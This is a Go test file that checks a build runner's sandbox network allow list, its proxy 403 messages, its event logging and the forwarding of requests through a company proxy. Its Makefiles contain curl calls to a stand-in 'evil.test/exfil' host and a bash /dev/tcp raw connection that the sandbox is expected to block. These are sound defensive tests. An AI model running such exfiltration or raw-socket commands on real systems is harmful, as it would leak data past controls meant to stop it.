package pipeline

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/seed43ef5acb/runner/internal/gittest"
	"github.com/seed43ef5acb/runner/llm/llmtest"
	"github.com/seed43ef5acb/runner/runner/event"
	"github.com/seed43ef5acb/runner/tools/sandbox"
)

// TestExecNetworkAllowList runs a `make` that uses the network through
// the whole pipeline with sandbox.network.allow naming one upstream (a
// name the test resolves to a real server on 127.0.0.1), with each layer
// pinned: curl reaches it through the runner's proxy, a host not in the
// list gets the proxy's 403 naming it and how to allow it, and a direct
// connection to a 127.0.0.1 listener fails. The log has one
// network.access event per host:port with its count, run.finished and
// result.json the same list, run.started the allow list and its limits.
func TestExecNetworkAllowList(t *testing.T) {
	for _, tool := range []string{"make", "curl", "bash"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed (.ci/run installs it): %v", tool, err)
		}
	}
	for pin, layers := range layerPins() {
		t.Run(pin, func(t *testing.T) {
			sup := sandbox.Probe()
			for _, l := range layers {
				if !slices.Contains(sup.Available(), l) {
					t.Skipf("layer %s is not available here: %s", l, sup.Missing())
				}
			}
			up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				fmt.Fprintf(w, "module index %s", r.URL.Path)
			}))
			defer up.Close()
			_, port, _ := net.SplitHostPort(up.Listener.Addr().String())
			sink := newTCPSink(t)
			makefile := fmt.Sprintf(`all:
	-curl -sS -m 10 http://registry.test:%[1]s/mod > allowed.txt 2>&1
	-curl -sS -m 10 http://evil.test/exfil > denied.txt 2>&1
	-curl -sS -m 10 https://evil.test/exfil >> denied.txt 2>&1
	-bash -c 'exec 3<>/dev/tcp/%[2]s && echo mark >&3'; echo "direct: $$?" > direct.txt
`, port, strings.Replace(sink.ln.Addr().String(), ":", "/", 1))
			repo := gittest.Repo(t, map[string]string{"Makefile": makefile})
			out := t.TempDir()
			spec := filepath.Join(t.TempDir(), "task.yaml")
			mustWrite(t, spec, gateSpec+fmt.Sprintf("sandbox: {network: {allow: [\"registry.test:%s\"]}}\n", port))
			t.Setenv("XDG_CACHE_HOME", t.TempDir())
			srv := newModel(t, makeTurn(), llmtest.Turn{Text: "Built."}.Reply())
			var stderr bytes.Buffer
			_, err := Exec(t.Context(), ExecOptions{Task: spec, Repo: repo, Out: out, BaseURL: srv.URL(), Quiet: true,
				APIKey: "sk-unit-0123456789abcdef", Stderr: &stderr, Environ: []string{"PATH=" + os.Getenv("PATH"), sandbox.LayersEnv + "=" + pin},
				loopbackNames: true, // the upstream listens on 127.0.0.1 (TestProxyRefusesInternalAddresses: off)
				resolveHost: func(_ context.Context, h string) ([]netip.Addr, error) {
					if h == "registry.test" {
						return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
					}
					return nil, fmt.Errorf("lookup %s: no such host", h)
				}})
			if err != nil {
				t.Fatalf("exec: %v\n%s", err, stderr.String())
			}
			read := func(name string) string { b, _ := os.ReadFile(filepath.Join(repo, name)); return string(b) }
			if got := read("allowed.txt"); got != "module index /mod" {
				t.Errorf("allowed host through the proxy: %q", got)
			}
			denied := read("denied.txt")
			for _, want := range []string{"the sandbox denied network access to evil.test:80", `add "evil.test:80" (or "evil.test" for ports 80 and 443) to sandbox.network.allow`, "CONNECT tunnel failed, response 403"} {
				if !strings.Contains(denied, want) {
					t.Errorf("denied.txt lacks %q:\n%s", want, denied)
				}
			}
			if got := read("direct.txt"); got != "direct: 1\n" || len(sink.received()) > 0 {
				t.Errorf("direct TCP without the proxy: %q, the listener got %q", got, sink.received())
			}
			data, err := os.ReadFile(filepath.Join(out, "events.jsonl"))
			if err != nil {
				t.Fatal(err)
			}
			var accesses []event.NetworkAccess
			var fin event.RunFinished
			for _, r := range validLog(t, data) {
				switch r.Type {
				case "network.access":
					var a event.NetworkAccess
					if err := r.Decode(&a); err != nil {
						t.Fatal(err)
					}
					accesses = append(accesses, a)
				case "run.finished":
					if err := r.Decode(&fin); err != nil {
						t.Fatal(err)
					}
				}
			}
			want := fmt.Sprintf("[{registry.test %s true 1 0 } {evil.test 80 false 1 0 } {evil.test 443 false 1 0 }]", port)
			if got := fmt.Sprint(accesses); got != want {
				t.Errorf("network.access events %s, want %s", got, want)
			}
			if got := fmt.Sprint(fin.Network); got != want {
				t.Errorf("run.finished network %s, want %s", got, want)
			}
			var result struct{ Network []event.NetworkAccess }
			if b, err := os.ReadFile(filepath.Join(out, "result.json")); err != nil || json.Unmarshal(b, &result) != nil || fmt.Sprint(result.Network) != want {
				t.Errorf("result.json network %v (%v), want %s", result.Network, err, want)
			}
			sb := runStartedSandbox(t, out)
			if sb == nil || !slices.Equal(sb.NetworkAllow, []string{"registry.test:" + port}) ||
				!slices.ContainsFunc(sb.Limits, func(s string) bool { return strings.HasPrefix(s, "network allow list:") }) {
				t.Errorf("run.started sandbox %+v: want the allow list and its limits", sb)
			}
		})
	}
}

// TestExecNetworkAllowListThroughCompanyProxy: behind an egress proxy
// (the runner's own HTTP_PROXY, on 127.0.0.1, which alone can reach
// registry.test), curl in the sandbox gets the allowed host through the
// runner's proxy and then the company's, credentials and all; a host
// not in the list still gets the runner's 403 and never reaches the
// company's proxy. The control run, without HTTP_PROXY, cannot reach it.
func TestExecNetworkAllowListThroughCompanyProxy(t *testing.T) {
	for _, tool := range []string{"make", "curl", "bash"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s is not installed (.ci/run installs it): %v", tool, err)
		}
	}
	if len(sandbox.Probe().Available()) == 0 {
		t.Skipf("no sandbox layer is available here: %s", sandbox.Probe().Missing())
	}
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "module index %s", r.URL.Path)
	}))
	defer up.Close()
	_, port, _ := net.SplitHostPort(up.Listener.Addr().String())
	var mu sync.Mutex
	var seen []string
	company := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Method+" "+r.URL.String()+" "+r.Header.Get("Proxy-Authorization"))
		mu.Unlock()
		req, _ := http.NewRequestWithContext(r.Context(), r.Method, up.URL+r.URL.Path, nil)
		resp, err := http.DefaultTransport.RoundTrip(req)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer resp.Body.Close()
		_, _ = io.Copy(w, resp.Body)
	}))
	defer company.Close()
	makefile := fmt.Sprintf("all:\n\t-curl -sS -m 10 http://registry.test:%s/mod > allowed.txt 2>&1\n\t-curl -sS -m 10 http://evil.test/exfil > denied.txt 2>&1\n", port)
	run := func(env ...string) (allowed, denied string) {
		repo := gittest.Repo(t, map[string]string{"Makefile": makefile})
		spec := filepath.Join(t.TempDir(), "task.yaml")
		mustWrite(t, spec, gateSpec+fmt.Sprintf("sandbox: {network: {allow: [\"registry.test:%s\"]}}\n", port))
		srv := newModel(t, makeTurn(), llmtest.Turn{Text: "Built."}.Reply())
		var stderr bytes.Buffer
		_, err := Exec(t.Context(), ExecOptions{Task: spec, Repo: repo, Out: t.TempDir(), BaseURL: srv.URL(), Quiet: true,
			APIKey: "sk-unit-0123456789abcdef", Stderr: &stderr, Environ: append([]string{"PATH=" + os.Getenv("PATH")}, env...),
			resolveHost: func(_ context.Context, h string) ([]netip.Addr, error) {
				return nil, fmt.Errorf("lookup %s: no such host", h) // only the company's proxy knows the names
			}})
		if err != nil {
			t.Fatalf("exec: %v\n%s", err, stderr.String())
		}
		read := func(name string) string { b, _ := os.ReadFile(filepath.Join(repo, name)); return string(b) }
		return read("allowed.txt"), read("denied.txt")
	}
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	cu := strings.Replace(company.URL, "http://", "http://ci:s3cret@", 1)
	allowed, denied := run("HTTP_PROXY="+cu, "https_proxy="+cu)
	if allowed != "module index /mod" {
		t.Errorf("allowed host through the company proxy: %q", allowed)
	}
	if !strings.Contains(denied, "the sandbox denied network access to evil.test:80") {
		t.Errorf("denied host: %q", denied)
	}
	mu.Lock()
	got := fmt.Sprint(seen)
	mu.Unlock()
	if want := fmt.Sprintf("[GET http://registry.test:%s/mod Basic Y2k6czNjcmV0]", port); got != want {
		t.Errorf("the company proxy saw %s, want %s", got, want)
	}
	if allowed, _ := run(); !strings.Contains(allowed, "could not reach registry.test") || !strings.Contains(allowed, "no such host") {
		t.Errorf("control, no HTTP_PROXY: %q", allowed)
	}
}
